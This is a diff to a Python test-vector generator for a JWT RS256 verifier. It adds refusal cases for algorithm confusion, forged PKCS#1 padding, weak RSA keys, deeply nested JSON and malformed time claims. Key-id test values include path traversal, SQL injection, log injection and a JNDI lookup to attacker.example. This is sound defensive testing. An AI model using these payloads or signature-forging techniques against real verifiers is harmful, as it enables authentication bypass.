@@ -10,6 +10,7 @@ RS256 is deterministic and the keys are in `jwt-test-keys.json`, so every run ma
 from __future__ import annotations
 
 import hashlib
+import hmac
 import json
 import sys
 from collections.abc import Iterator
@@ -17,8 +18,10 @@ from typing import Any
 
 from cryptography.hazmat.primitives import hashes
 from cryptography.hazmat.primitives.asymmetric import padding
+from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
 from jwt_tools import (
     HERE,
+    SHA256_PREFIX,
     Json,
     b64,
     by_hand,
@@ -28,8 +31,10 @@ from jwt_tools import (
     compact,
     encoded_message,
     last_character_changed,
+    padded,
     pss_signature,
-    public_pem,
+    public_bytes,
+    rsa,
     test_keys,
     uint,
 )
@@ -153,6 +158,8 @@ def what_is_accepted() -> Iterator[Json]:
     variants: dict[str, Json] = {
         "iss differs in the case of scheme and host": {"iss": "HTTPS://Lime.Example/office"},
         "claims that nobody knows yet": {"new": {"list": [1, None, True, 0.5, "é"]}},
+        "a long list": {"new": [0] * 5000},
+        "nbf before 1970": {"nbf": -1},
         "only what is needed": dict.fromkeys(("user_id", "passport_version", "kyc_level"), DROP),
         "nbf is there": {"nbf": NOW},
         "nbf at the end of the leeway": {"nbf": NOW + 30},
@@ -170,6 +177,8 @@ def what_is_accepted() -> Iterator[Json]:
     spaced = json.dumps(login(), indent=2).encode() + b"\n"
     token = by_hand(MAIN, compact(header()), spaced)
     yield accepted("white space in the JSON", token, AT_SITE, login())
+    fill = "x" * (1024 - len(compact(header(x=""))))
+    yield accepted("a header as long as allowed", signed(login(), x=fill), AT_SITE, login())
     claims = of_size(16 * 1024)
     yield accepted("as long as allowed", signed(claims), AT_SITE, claims)
     claims = binding()
@@ -281,7 +290,11 @@ def wrong_json() -> Iterator[Json]:
         "with single quotes": claims.replace(b'"', b"'"),
         "nested too deeply": claims[:-1] + b',"x":' + b"[" * 8 + b"]" * 8 + b"}",
         "nested very deeply": claims[:-1] + b',"x":' + b"[" * 4000 + b"]" * 4000 + b"}",
+        "nested very deeply, in objects": b'{"x":' * 1900 + b"1" + b"}" * 1900,
+        "opened very often and never closed": b'{"x":' * 2200,
         "with too many members": compact({f"m{n}": n for n in range(129)}),
+        "with a number of 5,000 digits": claims[:-1] + b',"x":' + b"9" * 5000 + b"}",
+        "with an exponent of 5,000 digits": claims[:-1] + b',"x":1e' + b"9" * 5000 + b"}",
     }.items():
         yield refused(f"the claims are {name}", by_hand(MAIN, head, odd), MALFORMED)
     for name, odd in {
@@ -290,7 +303,10 @@ def wrong_json() -> Iterator[Json]:
         "followed by more": head + b" {}",
         "not UTF-8": head.replace(b"RS256", b"RS\xff"),
         "nested too deeply": head[:-1] + b',"x":' + b"[" * 8 + b"]" * 8 + b"}",
+        "nested very deeply": head[:-1] + b',"x":' + b"[" * 4000 + b"]" * 4000 + b"}",
         "with too many members": compact(header() | {f"m{n}": n for n in range(126)}),
+        "too long": compact(header(x="x" * (1025 - len(compact(header(x="")))))),
+        "of very many empty objects": head[:-1] + b',"x":[' + b"{}," * 3800 + b"{}]}",
     }.items():
         yield refused(f"the header is {name}", by_hand(MAIN, odd, claims), MALFORMED)
 
@@ -300,6 +316,8 @@ def wrong_header() -> Iterator[Json]:
     body = compact(claims)
     for alg in ("none", "None", "NONE", "", "HS256", "RS384", "RS512", "PS256", "ES256", "EdDSA"):
         yield refused(f"alg is {alg!r}", signed(claims, alg=alg), HEADER)
+    for alg in ("nOnE", " RS256", "RS256 ", "RS256\0", "RS256,none", "RS2560", "RS1", "ES256K"):
+        yield refused(f"alg is {alg!r}", signed(claims, alg=alg), HEADER)
     odd = {"absent": DROP, "null": None, "a list": ["RS256"], "in small letters": "rs256"}
     for name, value in odd.items():
         yield refused(f"alg is {name}", signed(claims, alg=value), HEADER)
@@ -308,17 +326,25 @@ def wrong_header() -> Iterator[Json]:
     yield refused("alg none with some signature", f"{unsigned}.AAAA", HEADER)
     hs256 = compact(header(alg="HS256"))
     for name, secret in {
-        "PEM": public_pem(MAIN),
+        "PEM": public_bytes(MAIN, Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
+        "DER": public_bytes(MAIN, Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
+        "PKCS#1 PEM": public_bytes(MAIN, Encoding.PEM, PublicFormat.PKCS1),
         "modulus": MAIN.n.to_bytes(256, "big"),
         "JWK": compact(MAIN.jwk()),
         "nothing": b"",
     }.items():
         yield refused(f"HS256 with the public key as {name}", by_hmac(secret, hs256, body), HEADER)
+    symmetric = {"kty": "oct", "kid": "oct", "k": b64(b"published"), "alg": "HS256"}
+    token = by_hmac(b"published", compact(header(alg="HS256", kid="oct")), body)
+    yield refused("HS256 with a published secret", token, HEADER, jwks={"keys": [symmetric]})
     stranger: Json = STRANGER.jwk()
     variants: dict[str, Json] = {
         "kid is absent": {"kid": DROP},
         "kid is null": {"kid": None},
         "kid is a number": {"kid": 1},
+        "kid is a bool": {"kid": True},
+        "kid is a list": {"kid": [MAIN.kid]},
+        "kid is an object": {"kid": {"kid": MAIN.kid}},
         "kid is empty": {"kid": ""},
         "kid is longer than any": {"kid": "k" * 257},
         "crit names exp": {"crit": ["exp"], "exp": NOW},
@@ -350,9 +376,24 @@ def wrong_header() -> Iterator[Json]:
 
 def wrong_key() -> Iterator[Json]:
     body = compact(login())
-    for kid in (STRANGER.kid, "../../etc/passwd", "' OR 1=1 --", "k" * 256, "\u0000", "é"):
+    for kid in (
+        STRANGER.kid,
+        "../../etc/passwd",
+        "' OR 1=1 --",
+        "k" * 256,
+        "\u0000",
+        "é",
+        "\u202e",
+        "key\r\nINFO passport accepted",
+        "https://attacker.example/key.pem",
+        "${jndi:ldap://attacker.example/a}",
+        "__proto__",
+        MAIN.kid[:-1],
+        MAIN.kid.lower(),
+        f"{MAIN.kid} ",
+    ):
         token = by_hand(STRANGER, compact(header(kid=kid)), body)
-        yield refused(f"kid is {kid[:20]!r}", token, UNKNOWN_KEY, kid=kid)
+        yield refused(f"kid is {kid[:50]!r}", token, UNKNOWN_KEY, kid=kid)
     head = f"{b64(compact(header()))}.{b64(body)}"
     data = head.encode()
     good = MAIN.signature(data)
@@ -368,16 +409,67 @@ def wrong_key() -> Iterator[Json]:
         "of ones": b"\xff" * 256,
         "that is the modulus": MAIN.n.to_bytes(256, "big"),
         "cut": good[:-1],
+        "that is its HMAC": hmac.digest(MAIN.n.to_bytes(256, "big"), data, "sha256"),
         "with a zero before": b"\0" + good,
         "with a zero after": good + b"\0",
         "with a bit flipped": bytes([good[0] ^ 1]) + good[1:],
         "that is the padded digest": encoded_message(data, 256),
     }.items():
         yield refused(f"a signature {name}", f"{head}.{b64(signature)}", SIGNATURE)
+    yield from odd_padding(data)
+    grown = login_with_small_signature()
+    token = f"{grown.rpartition('.')[0]}.{b64(grown_signature(grown))}"
+    yield refused("a signature to which the modulus was added", token, SIGNATURE)
+    theirs = {"keys": [STRANGER.jwk(kid=MAIN.kid)]}
+    yield refused("another issuer's key of the same id", signed(login()), SIGNATURE, jwks=theirs)
     other = b64(compact(login(site_id=OTHER_SITE)))
     moved = f"{head.split('.', maxsplit=1)[0]}.{other}.{b64(good)}"
     yield refused("other claims under a good signature", moved, SIGNATURE, AT_SITE)
     yield from weak_keys(body)
+
+
+def odd_padding(data: bytes) -> Iterator[Json]:
+    """What the key signed is not the one encoding of RFC 8017 section 9.2, only like it."""
+    digest = hashlib.sha256(data).digest()
+    info = SHA256_PREFIX + digest
+    good = encoded_message(data, 256)
+    for name, encoded in {
+        "without the NULL": padded(
+            bytes.fromhex("302f300b0609608648016503040201") + info[17:], 256
+        ),
+        "with a long form of a length": padded(b"\x30\x81\x31" + info[2:], 256),
+        "with an indefinite length": padded(b"\x30\x80" + info[2:] + b"\0\0", 256),
+        # Bleichenbacher's of 2006: with the exponent 3 such a signature needs no private key.
+        "with bytes behind the digest": padded(info, 64) + b"\xff" * 192,
+        "with bytes in its parameters": padded(
+            bytes.fromhex("3039301506096086480165030402010508") + b"\xff" * 8 + info[17:], 256
+        ),
+        "with a short padding": good[:2] + good[9:] + bytes(7),
+        "with another byte in its padding": good[:9] + b"\xfe" + good[10:],
+        "with a zero in its padding": good[:9] + b"\x00" + good[10:],
+        "without a zero behind its padding": good[:204] + b"\xff" + good[205:],
+        "of block type 0": bytes(205) + info,
+        "of block type 2": b"\0\2" + good[2:],
+        "without a DigestInfo": padded(digest, 256),
+        "in the name of SHA-512": padded(info[:14] + b"\3" + info[15:], 256),
+        "of a shorter digest": padded(b"\x30\x30" + info[2:18] + b"\x1f" + info[19:-1], 256),
+    }.items():
+        assert len(encoded) == 256, name
+        signature = rsa(encoded, MAIN.numbers.d, MAIN.n)
+        token = f"{data.decode()}.{b64(signature)}"
+        yield refused(f"a signature over a padding {name}", token, SIGNATURE)
+
+
+def login_with_small_signature() -> str:
+    """A good token whose signature, as a number, leaves room for the modulus in 256 bytes."""
+    tokens = (signed(login(jti=f"event-{number}")) for number in range(100))
+    return next(token for token in tokens if grown_signature(token))
+
+
+def grown_signature(token: str) -> bytes:
+    """The signature of `token` and the modulus: the same for arithmetic. Empty if too long."""
+    grown = int.from_bytes(MAIN.signature(token.rpartition(".")[0].encode()), "big") + MAIN.n
+    return grown.to_bytes(256, "big") if grown.bit_length() <= 2048 else b""
 
 
 def weak_keys(body: bytes) -> Iterator[Json]:
@@ -393,9 +485,33 @@ def weak_keys(body: bytes) -> Iterator[Json]:
     token = f"{head}.{b64(encoded_message(head.encode(), 256))}"
     jwks = {"keys": [MAIN.jwk(kid="one", e=uint(1))]}
     yield refused("a weak key: exponent 1", token, UNKNOWN_KEY, jwks=jwks, kid="one")
+    # Twice a good modulus: the arithmetic still works, and one factor is known to everybody.
+    phi = (MAIN.numbers.p - 1) * (MAIN.numbers.q - 1)
+    for name, n, e in (
+        ("an even modulus", 2 * MAIN.n, 65537),
+        ("an exponent of 17 bits less one", MAIN.n, 65521),
+        ("an exponent of 33 bits", MAIN.n, 2**32 + 15),
+    ):
+        head = f"{b64(compact(header(kid='odd')))}.{b64(body)}"
+        encoded = encoded_message(head.encode(), (n.bit_length() + 7) // 8)
+        signature = rsa(encoded, pow(e, -1, phi), n)
+        assert rsa(signature, e, n) == encoded
+        jwks = {"keys": [MAIN.jwk(kid="odd", n=uint(n), e=uint(e))]}
+        token = f"{head}.{b64(signature)}"
+        yield refused(f"a weak key: {name}", token, UNKNOWN_KEY, jwks=jwks, kid="odd")
+    token = signed(login())
+    unusable: dict[str, Json] = {
+        "whose private half is published": {"d": uint(MAIN.numbers.d)},
+        "for encryption": {"use": "enc"},
+        "for RS512": {"alg": "RS512"},
+        "for signing only": {"key_ops": ["sign"]},
+        "of another kind": {"kty": "RSA-OAEP"},
+    }
+    for name, members in unusable.items():
+        jwks = {"keys": [MAIN.jwk(**members)]}
+        yield refused(f"a key {name}", token, UNKNOWN_KEY, jwks=jwks, kid=MAIN.kid)
     # Two keys of one id: whichever a verifier took, the other issuer's view would be another.
     jwks = {"keys": [MAIN.jwk(), STRANGER.jwk(kid=MAIN.kid)]}
-    token = signed(login())
     yield refused("an ambiguous key id", token, UNKNOWN_KEY, jwks=jwks, kid=MAIN.kid)
 
 
@@ -461,6 +577,10 @@ def wrong_times() -> Iterator[Json]:
         value = NOW + 60 if claim == "exp" else NOW
         for name, text in {
             "a bool": "true",
+            "another bool": "false",
+            "an object": "{}",
+            "empty text": '""',
+            "1e0": "1e0",
             "a float": f"{value}.0",
             "a float with an exponent": "1.8e9",
             "a string": f'"{value}"',
@@ -474,7 +594,7 @@ def wrong_times() -> Iterator[Json]:
             body = compact(login(**{claim: "HERE"})).replace(b'"HERE"', text.encode())
             token = by_hand(MAIN, head, body)
             yield refused(f"{claim} is {name}", token, CLAIM, claim=claim)
-        for text in ("NaN", "Infinity", "1e999", "0x10", "01", "+1"):
+        for text in ("NaN", "-NaN", "Infinity", "-Infinity", "1e999", "0x10", "01", "+1", "1."):
             body = compact(login(**{claim: "HERE"})).replace(b'"HERE"', text.encode())
             yield refused(f"{claim} is {text}", by_hand(MAIN, head, body), MALFORMED)
     for claim in ("exp", "iat"):
@@ -488,6 +608,9 @@ def wrong_times() -> Iterator[Json]:
         ("a life too long", "exp", login(exp=NOW + 121)),
         ("a life without end", "exp", login(exp=high)),
         ("a life that overflows", "exp", login(iat=low, exp=high)),
+        ("a negative exp", "exp", login(exp=-1)),
+        ("a negative iat", "exp", login(iat=-1)),
+        ("iat and exp one second apart at the end of time", "iat", login(iat=high - 1, exp=high)),
         ("no life", "exp", login(exp=NOW)),
         ("a life backwards", "exp", login(exp=NOW - 1)),
         ("a life backwards that overflows", "iat", login(iat=high, exp=low)),
